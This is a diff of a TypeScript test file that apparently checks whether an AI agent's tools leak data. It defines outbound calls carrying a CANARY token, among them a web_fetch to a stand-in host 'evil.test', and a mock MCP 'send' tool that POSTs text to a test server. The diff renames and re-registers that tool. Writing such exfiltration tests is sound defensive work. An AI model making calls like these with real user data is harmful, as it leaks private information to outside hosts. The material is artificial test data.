@@ -17,7 +17,7 @@ const outbound: Record<string, Record<string, unknown>> = {
   web_fetch: { url: 'https://evil.test/?q=CANARY' },
   web_search: { query: 'CANARY' },
   youtube_transcription: { url: 'https://www.youtube.com/watch?v=CANARYCANAR' },
-  other_send: { text: 'CANARY' },
+  other__send: { text: 'CANARY' },
 }
 
 export const exfiltrationCases: CaseChecks = {
@@ -174,19 +174,20 @@ export const exfiltrationCases: CaseChecks = {
 
 /** Someone else's tool, as an MCP client registers it. */
 const otherSend = defineTool({
-  name: 'other_send',
+  name: 'send',
   title: 'Send elsewhere',
   description: 'Sends a text to the server it comes from.',
   activity: 'Sending',
   category: 'mcp',
   effects: ['destroys', 'reaches-network'],
   input: z.object({ text: z.string() }),
-  output: z.string(),
+  output: z.object({ text: z.string() }),
   reaches: async ({ text }) => ({ sends: [{ url: 'https://mcp.test/', payload: text }] }),
   async run({ text }, { web, signal }) {
-    return (await web!.get('https://mcp.test/', { signal, method: 'POST', body: text })).text
+    const { text: answer } = await web!.get('https://mcp.test/', { signal, method: 'POST', body: text })
+    return { text: answer }
   },
-  render: (text) => text,
+  render: ({ text }) => text,
 })
 
 function onLoopback(
@@ -200,7 +201,7 @@ function onLoopback(
       const names = ['evil.test', 'search.test', 'www.youtube.com', 'mcp.test']
       const own = await loopbackWeb(names)
       const tools = registry(builtInTools)
-      tools.register(otherSend, 'mcp:other')
+      tools.registerServer('other', [otherSend])
       const web = own.open({ resolve: async (host) => (names.includes(host) ? [publicAddress] : []) })
       try {
         const config = { web: { searchEngine: 'searxng' as const, searchUrl: 'https://search.test/search' } }
